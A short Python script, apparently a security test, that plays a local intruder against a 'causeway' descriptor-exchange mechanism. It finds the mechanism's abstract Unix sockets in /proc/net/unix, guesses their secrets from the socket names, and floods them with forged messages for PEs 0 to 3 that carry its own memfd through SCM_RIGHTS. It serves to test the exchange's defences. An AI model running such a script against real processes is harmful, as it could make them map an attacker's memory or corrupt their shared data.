#!/usr/bin/env python3
"""What a user of the same host can try: memory of its own instead of a PE's.

    intruder.py SECONDS     sends to every socket of the descriptor exchange that /proc/net/unix shows; prints how often
"""
import array
import os
import re
import socket
import struct
import sys
import time


def main():
    fd = os.memfd_create("intruder")
    os.ftruncate(fd, 1 << 30)
    end = time.monotonic() + float(sys.argv[1])
    names, messages = set(), 0
    while time.monotonic() < end:
        with open("/proc/net/unix", encoding="ascii", errors="replace") as table:
            found = re.findall(r"@(causeway-([0-9a-f]+))$", table.read(), re.M)
        for name, digits in set(found):  # (connections have a line with their socket's name, too)
            names.add(name)
            for pe in range(4):
                for fds in ([fd], [fd] * 3, [fd] * 60, []):
                    messages += send(name, digits, pe, fds)
    print(f"{len(names)} sockets seen, {messages} messages sent")


def send(name, digits, pe, fds):
    """True if the message went away. The secret is guessed to be the name, as it once was."""
    if len(digits) == 16:  # of a former form: a datagram with a number and the PE
        kind, text = socket.SOCK_DGRAM, struct.pack("<Qii", int(digits, 16), pe, 0)
    else:
        kind, text = socket.SOCK_SEQPACKET, bytes.fromhex(digits) + struct.pack("<i", pe)
    control = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else []
    with socket.socket(socket.AF_UNIX, kind) as sender:
        sender.setblocking(False)
        try:
            sender.connect("\0" + name)
            sender.sendmsg([text], control)
        except OSError:
            return False
    return True


if __name__ == "__main__":
    main()
